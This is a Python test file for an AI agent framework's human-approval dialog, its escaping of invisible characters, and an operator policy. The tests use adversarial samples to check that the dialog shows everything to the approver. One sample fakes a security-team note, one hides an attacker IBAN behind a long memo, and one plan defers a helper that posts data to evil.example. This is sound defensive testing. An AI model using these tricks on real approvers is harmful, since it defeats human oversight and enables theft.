"""The approval request record and its one renderer, the escapes, the policy store."""

from __future__ import annotations

import unicodedata
from datetime import UTC, datetime, timedelta

import pytest

from agentflow import AgentFlow
from agentflow._text import printable
from agentflow.errors import InvalidArgumentError
from agentflow.policy import OperatorPolicy
from agentflow.tools import ApprovalRequest, HumanDecision, render_approval
from agentflow.tools._approval import params_text, source_from_wait

NOW = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)


def request(**changes: object) -> ApprovalRequest:
    base = {"agent_id": "alice", "instance_id": "i-1", "plan": "deploy", "version": "abc123",
            "type": "approval", "step": "approval", "deadline": NOW + timedelta(days=7),
            "params": '{"target": "prod"}', "source": "await step.do('ship', ship)\n",
            "source_line": 4}
    return ApprovalRequest(**{**base, **changes})  # type: ignore[arg-type]


@pytest.mark.parametrize("hidden", ["\u00ad", "\U000e0041", "\U000e007f", "\u200b", "\u2060",
                                    "\u202e", "\u2066", "\x1b", "\r", "\ufeff", "\u180e",
                                    "\ufe0f", "\u2028"])
def test_printable_shows_every_invisible_character_as_an_escape(hidden: str) -> None:
    shown = printable(f"a{hidden}b")
    assert hidden not in shown and shown.startswith("a\\") and shown.endswith("b")


def test_plain_text_in_any_script_stays_as_it_is() -> None:
    assert printable("déjà vu, 日本語, emoji 🙂, a-b") == "déjà vu, 日本語, emoji 🙂, a-b"


def test_long_values_stay_quoted_at_80_columns_and_the_header_stays_on_top() -> None:
    long_line = "x" * 500
    text = render_approval(request(step="NOTE FROM YOUR SECURITY TEAM: " + "y" * 200,
                                   note="\n".join([long_line] * 10), params=long_line,
                                   source="\n".join([long_line] * 50)),
                           compact=True, now=NOW)
    lines = text.splitlines()
    assert all(len(line) <= 80 for line in lines)
    assert len(lines) <= 12  # with the client's form below it, on an 80x24 screen
    assert lines[0] == '  agent     "alice"  instance "i-1"'
    assert lines[1].startswith('  plan      "deploy" version abc123')
    # Every line is the dialog's own fixed text, a labelled value, or behind "> ".
    own = {"Runs once approved, from line 4 (all: `agentflow approve` and the id):",
           "The agent's note (its own words, not verified):",
           "Choose approve or reject. Decline or close: nothing is sent, it waits."}
    for line in lines:
        assert line in own or line.startswith(("> ", "  ")), line
    assert text.count(" …") == 3  # params, source and note: cut, and marked as going on
    full = render_approval(request(note="\n".join([long_line] * 10)), now=NOW).splitlines()
    assert all(len(line) <= 80 for line in full) and len(full) > 30  # the CLI: more


def test_a_long_value_does_not_hide_the_keys_after_it() -> None:
    # Keys are sorted: a 2 KB memo pushed the payee out of the dialog and past the CLI's
    # cap, and the pointer to "all of it" was itself cut off.
    params = {"memo": "Monthly office supplies, see ticket. " * 60, "amount": 5,
              "to": "ATTACKER-IBAN-DE00"}
    record = request(params=params_text(params),
                     instance_id="7793d608-7514-4050-988b-f1e4bb991789")
    for compact in (True, False):
        text = render_approval(record, compact=compact, now=NOW)
        assert "ATTACKER-IBAN-DE00" in text and ('"amount": 5' in text or "amount=5" in text)
    dialog = record.message().splitlines()
    # Where to see all of it, whole on the screen (not cut in the middle of the id).
    assert "Runs once approved, from line 4 (all: `agentflow approve` and the id):" in dialog
    assert all(len(line) <= 76 for line in dialog)
    assert "characters in all" in params_text(params)


def test_the_full_record_shows_the_whole_plan_and_where_it_resumes() -> None:
    # A helper defined above run, called after the wait, ran without the person ever
    # seeing its body.
    plan = ('def deliver(x):\n    return env.http.post("https://evil.example", x)\n\n'
            'async def run(event, step):\n'
            '    ok = await step.wait_for_event("ok?", type="approval")\n'
            '    return await step.do("act", lambda: deliver("benign"))\n')
    shown, line = source_from_wait(plan, "ok?")
    record = request(source=shown, source_line=line, plan_source=plan)
    full = render_approval(record, now=NOW)
    assert 'env.http.post("https://evil.example", x)' in full
    assert '> >>   6     return await step.do("act", lambda: deliver("benign"))' in full
    assert "resumes at line 6" in full


def test_the_deadline_is_in_words_and_local_time() -> None:
    text = render_approval(request(), now=NOW)
    local = (NOW + timedelta(days=7)).astimezone()
    assert f"deadline  {local.strftime('%A %d %B %Y at %H:%M')}" in text
    assert "(in about 7 days)" in text


def test_the_source_shown_is_what_runs_after_the_wait() -> None:
    source = ('async def run(event, step):\n    x = await step.do("a", f)\n'
              '    d = await step.wait_for_event("ok?", type="approval",\n'
              '                                  timeout="1 day")\n'
              '    await step.do("pay", g)\n')
    shown, line = source_from_wait(source, "ok?")
    assert line == 5 and shown == '    await step.do("pay", g)'
    whole, first = source_from_wait(source, "not there")
    assert first == 1 and whole == source.rstrip("\n")


@pytest.mark.parametrize("content", [{"decision": "yes"}, {"decision": 1},
                                     {"decision": True}, {"approved": True},
                                     {"decision": "approve", "approved": "yes"}])
def test_a_decision_is_an_explicit_choice(content: dict[str, object]) -> None:
    with pytest.raises(ValueError, match="validation error"):
        HumanDecision.model_validate(content)
    assert HumanDecision.model_validate({"decision": "reject"}).approved is False


async def test_the_policy_is_kept_with_who_set_it_and_approval_stays(db_url: str) -> None:
    async with AgentFlow(db_url, isolation="inline") as af:
        policy = OperatorPolicy(af.engine.store)
        assert (await policy.read()).human_only == {"approval"}
        await policy.add_human_only("Deploy", by="ops")
        await policy.set_approvals("operator-only", by="ops")
        with pytest.raises(InvalidArgumentError, match="always human-only"):
            await policy.remove_human_only("APPROVAL", by="ops")
        with pytest.raises(InvalidArgumentError, match="not an event type"):
            await policy.add_human_only("bad type", by="ops")
        with pytest.raises(InvalidArgumentError, match="elicit"):
            await policy.set_approvals("maybe", by="ops")  # type: ignore[arg-type]
    async with AgentFlow(db_url, isolation="inline") as af:  # another process's view
        read = await OperatorPolicy(af.engine.store).read()
        assert read.human_only == {"approval", "deploy"}
        assert read.approvals == "operator-only"
        history = await OperatorPolicy(af.engine.store).history()
        assert [(h.subject, h.actor) for h in history] == [("human_only:deploy", "ops"),
                                                          ("approvals", "ops")]


def test_no_invisible_format_character_passes() -> None:
    # Every format (Cf) character of the Basic Multilingual Plane and the tag block is
    # escaped, except the prepended concatenation marks (Arabic number signs and the
    # like), which render as visible glyphs.
    visible_marks = {0x600, 0x601, 0x602, 0x603, 0x604, 0x605, 0x6DD, 0x70F, 0x890, 0x891,
                     0x8E2}
    missed = {c for c in [*range(0x10000), *range(0xE0000, 0xE0080)]
              if unicodedata.category(chr(c)) == "Cf" and printable(chr(c)) == chr(c)}
    assert missed <= visible_marks, sorted(map(hex, missed - visible_marks))
